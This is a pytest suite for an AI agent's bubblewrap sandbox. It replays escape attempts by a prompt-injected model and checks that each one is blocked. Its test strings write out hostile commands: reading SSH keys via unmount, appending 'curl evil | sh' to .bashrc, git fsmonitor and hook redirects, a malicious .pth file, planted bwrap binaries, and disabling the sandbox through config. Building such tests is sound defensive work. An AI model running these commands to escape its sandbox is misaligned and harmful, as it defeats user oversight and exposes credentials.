"""The escapes an attack pass found in the sandbox (issue 25), each written as the command a
prompt-injected model would send, run with the real bubblewrap as root (this machine and
CI) and as an ordinary user (uid 1000 through ``setpriv``: bwrap then runs unprivileged,
as on a laptop). Each failed on the code before the fix. Run by an ordinary user, the
"user" cases run as that user, unswitched; as root without setpriv they fail, saying so.

The user runs need a folder uid 1000 can reach: a temporary folder of its own under /tmp
(removed after), not pytest's (mode 700, root's)."""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import needs_bwrap, running, write

from tui_agent import ApprovalRequest, Decision, create_session
from tui_agent.core.project import trust
from tui_agent.core.protocol.approval import headless_approver
from tui_agent.core.sandbox.private_tmp import release_tmp
from tui_agent.core.util import paths
from tui_agent.sandbox import Sandbox
from tui_agent.testing import Person

USER = 1000
WHO = ["root", "user"]
SETPRIV = shutil.which("setpriv")


class Place:
    """Where one attack runs: a HOME and a project, owned by ``uid``; ``box`` builds the
    sandbox for a folder there, ``run`` runs a command in it as that user."""

    def __init__(self, base: Path, uid: int, monkeypatch: pytest.MonkeyPatch) -> None:
        self.base, self.uid = base, uid
        self.home = base / "home"
        self.project = base / "project"
        self.tmp = base / "sandbox-tmp"
        for folder in (self.home, self.project, self.tmp):
            folder.mkdir(parents=True, exist_ok=True)
        monkeypatch.setenv("HOME", str(self.home))
        for var, sub in [
            ("XDG_CONFIG_HOME", ".config"),
            ("XDG_DATA_HOME", ".local/share"),
            ("XDG_STATE_HOME", ".local/state"),
            ("XDG_CACHE_HOME", ".cache"),
        ]:
            monkeypatch.setenv(var, str(self.home / sub))

    def git_init(self) -> None:
        git(self.project, "init", "-q")
        git(self.project, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q",
            "--allow-empty", "-m", "first")  # fmt: skip

    def own(self) -> None:
        """Everything made so far belongs to the user (as root: nothing to do)."""
        if self.uid:
            for path in [self.base, *self.base.rglob("*")]:
                os.lchown(path, self.uid, self.uid)

    def git(self, *args: str) -> subprocess.CompletedProcess[str]:
        """git in the project, run by the user from outside (their next ``git status``)."""
        argv = ["git", "-C", str(self.project), *args]
        return subprocess.run(
            as_user(argv, self.uid) if self.uid else argv, capture_output=True, text=True
        )

    def box(self, folder: Path | None = None, **settings: Any) -> Sandbox:
        """As root, with a session's /tmp (a tmpfs its holder keeps); as the user, with a
        /tmp of the command's own (the holder would be root's here: the user's own
        sessions are in tests/core/sandbox/test_sandbox_everyday.py)."""
        made = Sandbox.of({"sandbox": settings} if settings else {}, self.project)
        made.home, made.folder = self.home, folder
        made.tmp = None if self.uid else self.tmp
        return made

    def end(self, box: Sandbox) -> None:
        """The session is over (its private /tmp and the stand-ins it kept go)."""
        if box.tmp is not None:
            release_tmp(box.tmp)

    def run(self, box: Sandbox, command: str, workdir: Path | None = None) -> tuple[int, str]:
        self.own()
        where = workdir or box.folder or box.worktree
        with box.command(["bash", "-c", command], where) as (argv, env):
            if self.uid:
                argv = as_user(argv, self.uid)
            done = subprocess.run(argv, env=env, capture_output=True, text=True, timeout=60)
        return done.returncode, done.stdout + done.stderr


def as_user(argv: list[str], uid: int) -> list[str]:
    """bwrap's command line as the user runs it: unprivileged, so no ``--uid`` (bwrap maps
    the user to itself), started through setpriv."""
    assert SETPRIV is not None
    kept = list(argv)
    if "--uid" in kept:
        for flag in ("--uid", "--gid"):
            at = kept.index(flag)
            del kept[at : at + 2]
    ids = ["--reuid", str(uid), "--regid", str(uid), "--clear-groups"]
    return [SETPRIV, *ids, *kept]


def git(where: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["git", "-C", str(where), *args], capture_output=True, text=True)


@pytest.fixture(params=WHO)
def place(
    request: pytest.FixtureRequest, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[Place]:
    if request.param == "root" or os.geteuid() != 0:
        # not root: this run already is an ordinary user, so both run as it, unswitched
        yield Place(tmp_path / request.param, 0, monkeypatch)
        return
    if SETPRIV is None:
        pytest.fail("the uid 1000 runs need setpriv (util-linux: apt-get install util-linux)")
    base = Path(tempfile.mkdtemp(prefix="tui-agent-attack-"))
    try:
        os.chmod(base, 0o755)
        yield Place(base, USER, monkeypatch)
    finally:
        shutil.rmtree(base, ignore_errors=True)


# -- 1. root keeps no capabilities -------------------------------------------------------------


@needs_bwrap
def test_no_capabilities_and_nothing_unmounted(place: Place) -> None:
    write(place.home / ".ssh" / "id_rsa", "PRIVATE-KEY-CANARY\n")
    place.git_init()
    me = os.getpid()
    _status, said = place.run(
        place.box(),
        "grep CapEff /proc/self/status;"
        " umount ~/.ssh; cat ~/.ssh/id_rsa;"
        " mount -o remount,bind,rw ~ ; touch ~/pwned;"
        " umount .git/hooks; echo evil > .git/hooks/pre-commit;"
        f" umount /proc; test -e /proc/{me}/cmdline && echo AGENT-VISIBLE;"
        " unshare -r sh -c 'umount ~/.ssh; cat ~/.ssh/id_rsa' ; true",
    )
    assert "CapEff:\t0000000000000000" in said, said
    assert "PRIVATE-KEY-CANARY" not in said
    assert not (place.home / "pwned").exists()
    assert not (place.project / ".git" / "hooks" / "pre-commit").exists()
    assert "AGENT-VISIBLE" not in said  # the agent's own process stays out of sight


# -- 2. .git cannot redirect git to code -------------------------------------------------------


@needs_bwrap
def test_git_internals_cannot_point_git_at_code(place: Place) -> None:
    place.git_init()
    canary = place.base / "PWNED"
    evil = f"[core]\n\tfsmonitor = touch {canary}\n"
    write(place.project / "evil" / "config", evil)
    box = place.box()
    _status, said = place.run(
        box,
        'echo "$PWD/evil" > .git/commondir;'
        f" printf '{evil}' > .git/config.worktree;"
        f" printf '{evil}' > .git/info/attributes;"
        " mkdir -p .git/worktrees/x && echo evil > .git/worktrees/x/commondir;"
        " echo '[include] path = ../evil/config' >> .git/config; true",
    )
    _, said = place.run(box, "git -c user.name=t -c user.email=t@t commit -q --allow-empty -m 2")
    assert said == "", said  # everyday git still works
    git_dir = place.project / ".git"
    assert not (git_dir / "commondir").exists() and not (git_dir / "config.worktree").exists()
    assert (git_dir / "commondir.made-in-sandbox-1").exists()
    assert any("commondir" in line and "moved to" in line for line in box.restored)
    assert not [*(git_dir / "worktrees").glob("*")]  # at most the session's stand-in
    assert "evil" not in (git_dir / "config").read_text()
    assert not (git_dir / "info" / "attributes").exists()
    # the user's next git status runs nothing
    assert place.git("status", "--short").returncode == 0
    assert not canary.exists()
    assert place.git("log", "--oneline").stdout.count("\n") == 2
    place.end(box)
    assert not (git_dir / "worktrees").exists()


@needs_bwrap
def test_a_submodules_config_is_read_only(place: Place) -> None:
    place.git_init()
    module = place.project / ".git" / "modules" / "lib"
    write(module / "HEAD", "ref: refs/heads/main\n")
    write(module / "config", "[core]\n\tbare = false\n")
    (module / "hooks").mkdir()
    _status, _said = place.run(
        place.box(),
        "echo '[core] fsmonitor = touch /x' >> .git/modules/lib/config;"
        " echo evil > .git/modules/lib/hooks/post-checkout;"
        " echo /elsewhere > .git/modules/lib/commondir; true",
    )
    assert "fsmonitor" not in (module / "config").read_text()
    assert not (module / "hooks" / "post-checkout").exists()
    assert not (module / "commondir").exists()


# -- 4. the agents' config is read-only at every level -----------------------------------------


@needs_bwrap
def test_a_sub_projects_config_cannot_be_changed_or_made(place: Place) -> None:
    place.git_init()
    pkg = place.project / "pkg"
    write(pkg / ".tui-agent" / "config.toml", "# mine\n")
    box = place.box(folder=pkg)
    before = sorted(str(p) for p in place.project.rglob("*") if ".git/" not in str(p))
    _status, _said = place.run(
        box,
        "printf '[sandbox]\\nenabled = false\\n' >> .tui-agent/config.toml;"
        " for d in . ..; do"
        "   mkdir -p $d/.claude && echo '{\"hooks\": {}}' > $d/.claude/settings.json;"
        "   mkdir -p $d/.vscode && echo '{}' > $d/.vscode/tasks.json;"
        "   mkdir -p $d/.gemini $d/.codex $d/.opencode $d/.agents/plugins;"
        "   echo x > $d/.codex/config.toml; echo x > $d/.agents/plugins/x.py;"
        "   echo '{\"mcpServers\": {}}' > $d/.mcp.json;"
        " done; true",
    )
    assert (pkg / ".tui-agent" / "config.toml").read_text() == "# mine\n"
    for level in (pkg, place.project):
        assert not (level / ".mcp.json").exists()
        assert (level / ".mcp.json.made-in-sandbox-1").exists()
        for name in (".claude", ".vscode", ".gemini", ".codex", ".opencode", ".agents"):
            assert not [*(level / name).glob("*")], level / name  # the session's stand-in
    place.end(box)
    for level in (pkg, place.project):
        for name in (".claude", ".vscode", ".gemini", ".codex", ".opencode", ".agents"):
            assert not (level / name).exists(), level / name
    after = sorted(
        str(p)
        for p in place.project.rglob("*")
        if ".git/" not in str(p) and "made-in-sandbox" not in str(p)
    )
    assert after == before
    assert sum(".mcp.json" in line for line in box.restored) == 2


# -- 5. Unix sockets outside are masked ----------------------------------------------------------


class Listener:
    """A Unix socket server outside the sandbox (the user's tmux, a database) that
    records what reaches it."""

    def __init__(self, path: Path) -> None:
        path.parent.mkdir(parents=True, exist_ok=True)
        self.path = path
        self.got: list[bytes] = []
        self.server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.server.bind(str(path))
        os.chmod(path, 0o777)  # so only the sandbox stands in the way
        self.server.listen()
        self.server.settimeout(0.2)
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self) -> None:
        while not self.stop.is_set():
            try:
                client, _ = self.server.accept()
            except OSError:
                continue
            with client:
                client.settimeout(2)
                try:
                    self.got.append(client.recv(100))
                except OSError:
                    pass

    def close(self) -> None:
        self.stop.set()
        self.thread.join()
        self.server.close()


CONNECT = (
    'python3 -c "import socket; s = socket.socket(socket.AF_UNIX);'
    " s.connect('{path}'); s.sendall(b'send-keys PWNED'); print('SENT')\""
)
OWN = (
    "python3 -c \"import socket; a = socket.socket(socket.AF_UNIX); a.bind('/tmp/own.sock');"
    " a.listen(); b = socket.socket(socket.AF_UNIX); b.connect('/tmp/own.sock');"
    " b.sendall(b'x'); c, _ = a.accept(); print('OWN', c.recv(1))\""
)


@needs_bwrap
def test_unix_sockets_outside_are_masked(place: Place) -> None:
    listener = Listener(place.home / ".tmux" / "default")
    try:
        place.own()
        status, said = place.run(place.box(), CONNECT.format(path=listener.path))
        assert status != 0 and "SENT" not in said and listener.got == [], said
        assert "ConnectionRefused" in said
        # its own sockets work
        status, said = place.run(place.box(), OWN)
        assert status == 0 and "OWN b'x'" in said, said
        # unix_sockets names the ones it may use
        allowed = place.box(unix_sockets=[str(listener.path)])
        status, said = place.run(allowed, CONNECT.format(path=listener.path))
        assert status == 0 and "SENT" in said, said
        for _ in range(50):
            if listener.got:
                break
            threading.Event().wait(0.05)
        assert listener.got == [b"send-keys PWNED"]
    finally:
        listener.close()


# -- 6. HOME (or above) as the session's folder --------------------------------------------------


@needs_bwrap
def test_home_as_the_folder_is_not_writable(place: Place) -> None:
    write(place.home / ".bashrc", "# mine\n")
    box = place.box()
    box.worktree = place.home
    before = sorted(p.name for p in place.home.iterdir())  # (.cache: the agent's own locks)
    _status, said = place.run(
        box,
        "echo 'curl evil | sh' >> ~/.bashrc; echo x > notes.txt; mkdir .tui-agent;"
        " echo '[sandbox]' > ~/.config/tui-agent/config.toml; ls ~ > /dev/null && echo READ",
        workdir=place.home,
    )
    assert "READ" in said  # reading still works
    assert (place.home / ".bashrc").read_text() == "# mine\n"
    assert sorted(p.name for p in place.home.iterdir() if p.name != ".cache") == before
    note = box.note(said)
    assert note is not None and "home folder" in note and "!!command" in note
    # the same for a folder above HOME (here: the one HOME is in)
    above = place.box()
    above.worktree = place.base
    assert above.home_exposed and "home folder" in above.describe()
    place.run(above, "echo x > escaped.txt", workdir=place.base)
    assert not (place.base / "escaped.txt").exists()


# -- more hidden by default ----------------------------------------------------------------------


@needs_bwrap
def test_more_credentials_histories_and_our_state_are_hidden(
    place: Place, monkeypatch: pytest.MonkeyPatch
) -> None:
    xdg = place.base / "xdg-config"  # XDG_CONFIG_HOME pointing away from ~/.config
    monkeypatch.setenv("XDG_CONFIG_HOME", str(xdg))
    canaries = [
        place.home / ".npmrc",
        place.home / ".yarnrc.yml",
        place.home / ".cargo" / "credentials.toml",
        place.home / ".claude" / ".credentials.json",
        place.home / ".bash_history",
        place.home / ".zsh_history",
        place.home / ".python_history",
        place.home / ".config" / "gh" / "hosts.yml",
        place.home / ".config" / "someapp" / "credentials.json",
        xdg / "gh" / "hosts.yml",
        xdg / "other" / "credentials",
        paths.user_data_dir() / "sessions" / "other.jsonl",
        Path(os.environ["XDG_CACHE_HOME"]) / "tui-agent" / "sandbox-tmp" / "other" / "x",
    ]
    for n, canary in enumerate(canaries):
        write(canary, f"CANARY-{n}\n")
    write(place.home / ".claude" / "settings.json", "VISIBLE\n")  # not a credential
    place.git_init()
    _status, said = place.run(
        place.box(),
        " ".join(f"cat {c} 2>/dev/null;" for c in canaries) + " cat ~/.claude/settings.json",
    )
    assert "CANARY" not in said, said
    assert "VISIBLE" in said


# -- errors that say why -------------------------------------------------------------------------


@needs_bwrap
async def test_notes_name_the_rule_and_the_way_out(project: Path, isolated_home: Path) -> None:
    subprocess.run(["git", "init", "-q", str(project)], check=True, capture_output=True)
    write(isolated_home / ".ssh" / "id_rsa", "KEY\n")
    session = create_session(project)
    assert session.sandbox.active

    async def note(command: str) -> str:
        result = (await session.toolbox.run("execute", {"command": command})).to_dict()
        assert result["exit_status"] != 0, result
        return str(result.get("sandbox", ""))

    said = await note("git config user.name x")
    assert "protected" in said and ".git/config" in said and "!!command" in said
    said = await note("cat ~/.ssh/id_rsa")
    assert "id_rsa is hidden in the sandbox" in said and "is in /tmp" not in said, said
    said = await note("/tmp/tools/mytool --version")
    assert "/tmp/tools/mytool is in /tmp" in said and "private /tmp" in said, said
    listener = Listener(isolated_home / "db.sock")
    try:
        said = await note(CONNECT.format(path=listener.path))
        assert "Unix sockets" in said and "unix_sockets" in said
    finally:
        listener.close()
    session.conversation.journal.close()


# -- 7. the permission layer: the same list, always asked ------------------------------------


class Recorder:
    def __init__(self, answer: str) -> None:
        self.answer = answer
        self.requests: list[ApprovalRequest] = []

    async def __call__(self, request: ApprovalRequest) -> Decision:
        self.requests.append(request)
        return Decision(self.answer)  # type: ignore[arg-type]


@pytest.mark.real_permissions
@pytest.mark.parametrize("how", ["auto-edit", "write-allow"])
async def test_writing_agent_config_is_always_asked(project: Path, how: str) -> None:
    config = paths.user_config_dir() / "config.toml"
    write(config, '[permission]\nwrite = "allow"\nedit = "allow"\n' if how == "write-allow" else "")
    session = create_session(project)
    if how == "auto-edit":
        session.permissions.set_mode("auto-edit")
    recorder = Recorder("deny")
    session.frontend = Person(decide=recorder)
    targets = [
        ".claude/settings.json",
        ".mcp.json",
        ".vscode/tasks.json",
        ".gemini/settings.json",
        ".codex/config.toml",
        ".opencode/plugin/x.ts",
        "pkg/.claude/settings.json",
        "pkg/.tui-agent/config.toml",
    ]
    for target in targets:
        result = await session.toolbox.run("write", {"path": target, "content": "{}"})
        assert result.to_dict().get("error"), target
        assert not (project / target).exists(), target
    assert [r.subject for r in recorder.requests] == targets
    # an ordinary file is still written without asking
    result = await session.toolbox.run("write", {"path": "src/a.py", "content": "x = 1\n"})
    assert not result.to_dict().get("error") and len(recorder.requests) == len(targets)
    session.conversation.journal.close()


@pytest.mark.real_permissions
async def test_deny_still_wins_for_agent_config(project: Path) -> None:
    write(
        paths.user_config_dir() / "config.toml",
        '[permission]\nwrite = { "*" = "allow", ".claude/*" = "deny" }\n',
    )
    session = create_session(project)
    recorder = Recorder("once")
    session.frontend = Person(decide=recorder)
    result = (
        await session.toolbox.run("write", {"path": ".claude/x.json", "content": "{}"})
    ).to_dict()
    assert "Permission denied" in str(result.get("error")) and recorder.requests == []
    session.conversation.journal.close()


@pytest.mark.real_permissions
async def test_a_headless_denial_says_nobody_was_asked(project: Path) -> None:
    session = create_session(project)
    session.frontend = Person(decide=headless_approver(False))
    result = (await session.toolbox.run("write", {"path": "a.txt", "content": "x"})).to_dict()
    error = str(result.get("error"))
    assert "nobody was asked" in error and "--yes" in error and "[permission]" in error, error
    assert "User denied" not in error
    session.conversation.journal.close()


def test_the_protected_list_is_one_list() -> None:
    from tui_agent.core.permissions import permissions
    from tui_agent.core.sandbox import sandbox

    assert set(paths.AGENT_CONFIG) <= set(permissions.PROTECTED)
    assert set(paths.AGENT_CONFIG) <= set(sandbox.PROTECTED)


# -- the private /tmp: size-capped, and none left behind ----------------------------------------


@needs_bwrap
async def test_the_private_tmp_cannot_fill_the_disk(project: Path) -> None:
    write(paths.user_config_dir() / "config.toml", '[sandbox]\ntmp_size = "8M"\n')
    session = create_session(project)
    assert session.sandbox.settings.tmp_size == 8 << 20

    async def run(command: str) -> dict[str, Any]:
        return (await session.toolbox.run("execute", {"command": command})).to_dict()

    assert (await run("echo small > /tmp/keep"))["exit_status"] == 0
    full = await run("head -c 30M /dev/zero > /tmp/big")
    assert "No space left on device" in full["output"], full
    assert "tmp_size" in full["sandbox"] and "8 MB" in full["sandbox"]
    # -x: the tmpfs alone, not the worktree (bound under /tmp here) and its stand-ins
    said = (await run("cat /tmp/keep; du -skx /tmp | cut -f1; df -k /tmp | tail -1"))["output"]
    keep, used, df = said.splitlines()
    assert keep == "small" and " 8192 " in f" {df} " and int(used) <= 8 * 1024 + 64
    # nothing of it is on the disk: the session's folder there is empty
    tmp = session.sandbox.tmp
    assert tmp is not None and [p.name for p in tmp.iterdir()] == []
    assert len(running(f"{tmp}.tmpfs")) == 1  # the process that holds the tmpfs
    await session.close()
    assert not tmp.exists() and not Path(f"{tmp}.tmpfs").exists()
    assert not running(f"{tmp}.tmpfs")


def test_the_tmpfs_goes_when_tui_agent_is_killed(project: Path) -> None:
    script = (
        "import sys, subprocess; from pathlib import Path;"
        " from tui_agent.sandbox import Sandbox;"
        " box = Sandbox.of({}, Path(sys.argv[1]), Path(sys.argv[2]));"
        " cm = box.command(['true'], Path(sys.argv[1])); argv, env = cm.__enter__();"
        " subprocess.run(argv, env=env, check=True); print('ran', flush=True);"
        " import time; time.sleep(60)"
    )
    tmp = project.parent / "killed-session"
    agent = subprocess.Popen(
        [sys.executable, "-c", script, str(project), str(tmp)], stdout=subprocess.PIPE, text=True
    )
    try:
        assert agent.stdout is not None and agent.stdout.readline() == "ran\n"
        assert running(f"{tmp}.tmpfs")
    finally:
        agent.kill()
        agent.wait()
    for _ in range(100):
        if not running(f"{tmp}.tmpfs"):
            break
        time.sleep(0.05)
    assert not running(f"{tmp}.tmpfs")


@needs_bwrap
def test_without_unshare_the_private_tmp_is_measured(project: Path, tmp_path: Path) -> None:
    """Where no tmpfs can be held (util-linux's unshare missing), the private /tmp is a
    folder whose size is measured while a command runs: a writer is stopped past it."""
    tools = Path.home() / "bin"  # (HOME is in the sandbox; the real /tmp is not)
    tools.mkdir()
    for name in ("bwrap", "bash", "sh", "head", "sleep", "seq", "cat", "true", "env"):
        found = shutil.which(name)
        assert found is not None, name
        (tools / name).symlink_to(found)
    script = (
        "import sys, subprocess; from pathlib import Path;"
        " from tui_agent.sandbox import Sandbox;"
        " box = Sandbox.of({'sandbox': {'tmp_size': '8M'}}, Path(sys.argv[1]), Path(sys.argv[2]))\n"
        "def run(command):\n"
        "    with box.command(['bash', '-c', command], Path(sys.argv[1])) as (argv, env):\n"
        "        done = subprocess.run(argv, env=env, capture_output=True, text=True)\n"
        "    return done.stdout + done.stderr\n"
        "print(run('echo small > /tmp/keep; cat /tmp/keep'), end='')\n"
        "print(run('for i in $(seq 200); do head -c 1M /dev/zero >> /tmp/big; sleep 0.02; done;"
        " echo FINISHED'), end='')\n"
        "print(' '.join(box.restored))\n"
    )
    tmp = tmp_path / "measured"
    env = {**os.environ, "PATH": str(tools)}
    done = subprocess.run(
        [sys.executable, "-c", script, str(project), str(tmp)],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("small\n") and "FINISHED" not in done.stdout, done.stdout
    assert "went over tmp_size" in done.stdout and "emptied" in done.stdout
    assert sum(f.stat().st_size for f in tmp.rglob("*") if f.is_file()) < 1 << 20


@needs_bwrap
def test_private_tmps_of_dead_sessions_are_removed(project: Path, tmp_path: Path) -> None:
    from tui_agent.core.sandbox.sandbox import _HELD, session_tmp

    dead = session_tmp("dead-session")
    write(dead / "junk", "x" * 1000)
    (dead.parent / "dead-session.lock").write_text("")
    old = session_tmp("from-an-older-version")  # no lock file: gone once a day old
    write(old / "junk", "x")
    os.utime(old, (0, 0))
    alive = session_tmp("alive-elsewhere")
    write(alive / "mine", "x")
    holder = subprocess.Popen(
        [
            "python3",
            "-c",
            "import fcntl, os, sys, time; f = os.open(sys.argv[1], os.O_RDWR | os.O_CREAT);"
            " fcntl.flock(f, fcntl.LOCK_SH); print('held', flush=True); time.sleep(60)",
            str(alive.parent / "alive-elsewhere.lock"),
        ],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout is not None and holder.stdout.readline() == "held\n"
        _HELD.clear()  # as in a new tui-agent process
        box = Sandbox.of({}, project, session_tmp("new-session"))
        with box.command(["true"], project) as (argv, env):
            subprocess.run(argv, env=env, check=True)
        assert not dead.exists() and not (dead.parent / "dead-session.lock").exists()
        assert not old.exists()
        assert (alive / "mine").exists()  # another live session's: kept
    finally:
        holder.kill()
        holder.wait()


# -- the whole chain, as the attack pass drove it: headless, a scripted model -----------------


def test_a_scripted_attack_through_the_real_cli(project: Path, tmp_path: Path) -> None:
    """``tui-agent run`` (no --yes, the sandbox on by default, so commands are not asked
    about) against a model that sends the attack pass's commands, then the calls that
    would set them off outside: a grep the git engine serves, a write of a hook file."""
    from tui_agent.testing import Call, FakeOpenAI, Reply

    subprocess.run(["git", "init", "-q", str(project)], check=True)
    canary = tmp_path / "canaries"
    canary.mkdir()
    write(project / "src" / "a.py", "xy = 1\n")
    write(project / "pkg" / ".tui-agent" / "config.toml", "# mine\n")  # a trusted sub-project
    trust.remember(project / "pkg", True)
    attack = (
        f"mkdir -p evil && printf '[core]\\n\\tfsmonitor = touch {canary}/commondir\\n'"
        ' > evil/config && echo "$PWD/evil" > .git/commondir;'
        f" git init -q vendor && git -C vendor config core.fsmonitor 'touch {canary}/nested';"
        " echo 'xy = 2' > vendor/b.py;"
        " for d in . pkg; do printf '[sandbox]\\nenabled = false\\n' >> $d/.tui-agent/config.toml;"
        " done;"
        ' echo \'{"mcpServers": {"x": {"command": "sh"}}}\' > .mcp.json;'
        " env | grep -c sk-attack-key-0123456789 || true"
    )
    with FakeOpenAI() as server:
        server.script += [
            Reply(calls=[Call("execute", {"command": attack})]),
            Reply(calls=[Call("grep", {"pattern": "(?<=x)y", "path": "."})]),
            Reply(calls=[Call("write", {"path": ".claude/settings.json", "content": "{}"})]),
            Reply("done"),
        ]
        env = {**os.environ, "OPENAI_API_KEY": "sk-attack-key-0123456789"}
        done = subprocess.run(
            [
                sys.executable,
                "-m",
                "tui_agent",
                "run",
                "tidy up",
                "--base-url",
                server.base_url,
                "--model",
                "fake-model",
            ],
            cwd=project,
            env=env,
            stdin=subprocess.DEVNULL,
            capture_output=True,
            text=True,
            timeout=120,
        )
        results = [
            json.loads(m["content"])
            for request in server.requests[1:]
            for m in request["messages"][-1:]
            if m["role"] == "tool"
        ]
    assert done.returncode == 0, done.stderr
    ran, grepped, wrote = results
    assert ran["output"].strip().splitlines()[-1] == "0", ran  # the key is not in env
    assert "commondir" in ran["sandbox"] and ".mcp.json" in ran["sandbox"]
    assert "vendor/b.py" in json.dumps(grepped)  # the nested repository is searched...
    assert "nobody was asked" in wrote["error"] and not (project / ".claude").exists()
    # ...and nothing the command planted has run, in tui-agent or in the user's git after
    assert (
        subprocess.run(["git", "-C", str(project), "status"], capture_output=True).returncode == 0
    )
    assert sorted(p.name for p in canary.iterdir()) == []
    assert not (project / ".git" / "commondir").exists() and not (project / ".mcp.json").exists()
    assert (project / "pkg" / ".tui-agent" / "config.toml").read_text() == "# mine\n"
    assert not (project / ".tui-agent").exists()


# -- programs planted where commands can write ---------------------------------------------------


@needs_bwrap
def test_a_bwrap_planted_in_the_projects_venv_is_never_run(
    project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An activated ``.venv/bin`` is on PATH and writable from the sandbox: a ``bwrap``,
    ``nsenter`` or ``unshare`` a command puts there would run the next command outside; an
    ``sh`` or ``mount`` there would run when the tmpfs holder starts, and a ``bwrap`` when
    its options are looked at (a plugin's sandbox without a session)."""
    canary = tmp_path / "PLANTED-RAN"
    planted = project / ".venv" / "bin"
    planted.mkdir(parents=True)
    for name in ("bwrap", "nsenter", "unshare", "sh", "mount"):
        write(planted / name, f'#!/bin/sh\ntouch {canary}\nexec "$@"\n').chmod(0o755)
    monkeypatch.setenv("PATH", f"{planted}{os.pathsep}{os.environ['PATH']}")
    box = Sandbox.of({}, project, tmp_path / "session-tmp")
    assert box.active, box.reason
    with box.command(["bash", "-c", "touch /etc/escaped 2>/dev/null; echo ran"], project) as (
        argv,
        env,
    ):
        done = subprocess.run(argv, env=env, capture_output=True, text=True, timeout=30)
    assert done.stdout == "ran\n", done.stderr
    assert not canary.exists() and not any(str(planted) in arg for arg in argv[:8])
    from tui_agent.core.sandbox.sandbox import release_tmp

    release_tmp(tmp_path / "session-tmp")
    plugins = Sandbox.of({}, project)  # no session: a tmpfs per command, if bwrap has --size
    with plugins.command(["bash", "-c", "echo ran"], project) as (argv, env):
        done = subprocess.run(argv, env=env, capture_output=True, text=True, timeout=30)
    assert done.stdout == "ran\n" and not canary.exists(), done.stderr
    # bwrap only there: no sandbox (and so every command is asked about), not that one
    tools = tmp_path / "tools"
    tools.mkdir()
    (tools / "bash").symlink_to(shutil.which("bash") or "/bin/bash")
    monkeypatch.setenv("PATH", f"{planted}{os.pathsep}{tools}")
    only = Sandbox.of({}, project)
    assert not only.active and "only in a folder the sandbox lets commands write" in str(
        only.reason
    )


@needs_bwrap
def test_tui_agents_own_venv_in_the_project_is_read_only(place: Place) -> None:
    venv = place.project / ".venv"
    site = venv / "lib" / "python3.11" / "site-packages"
    write(site / "tui_agent" / "__init__.py", "# ours\n")
    write(venv / "bin" / "tui-agent", "#!/bin/sh\n")
    box = place.box()
    box.prefix = venv  # as when tui-agent runs from the project's own .venv
    place.run(
        box,
        "echo 'import os; os.system(\"touch /tmp/x\")' > .venv/lib/python3.11/site-packages/x.pth;"
        " echo evil >> .venv/lib/python3.11/site-packages/tui_agent/__init__.py;"
        " echo evil > .venv/bin/tui-agent; true",
    )
    assert not (site / "x.pth").exists()
    assert (site / "tui_agent" / "__init__.py").read_text() == "# ours\n"
    assert (venv / "bin" / "tui-agent").read_text() == "#!/bin/sh\n"
    # another project venv (not the one running tui-agent) stays writable: pip install works
    other = place.box()
    _status, said = place.run(other, "mkdir -p .venv/lib && echo ok > .venv/lib/made && echo OK")
    assert "OK" in said, said


# -- the stand-ins a session keeps between commands (issue 29) --------------------------------


@needs_bwrap
def test_kept_stand_ins_hold_against_the_next_command(place: Place) -> None:
    """A first command makes the read-only stand-ins for the missing agent folders (kept
    for a session with its own /tmp, root's here; the user's box has none, so its
    stand-ins come and go with each command); the next one tries to remove, move,
    replace and fill them. Nothing of it lands, as root or as the user."""
    place.own()
    box = place.box()
    names = (".claude", ".vscode", ".gemini", ".codex")
    place.run(box, "true")
    kept = [name for name in names if (place.project / name).is_dir()]
    assert bool(kept) == (place.uid == 0), kept  # root's session keeps them
    place.run(
        box,
        "rmdir .claude; rm -rf .vscode; mv .gemini g; ln -sfn /tmp .codex;"
        " echo '{}' > .claude/settings.json; mkdir -p .claude/agents; true",
    )
    for name in names:
        stand_in = place.project / name
        assert not stand_in.is_symlink(), name
        assert (name in kept) == stand_in.is_dir(), name
        assert not stand_in.exists() or list(stand_in.iterdir()) == [], name
    assert not (place.project / "g").exists()
    place.end(box)
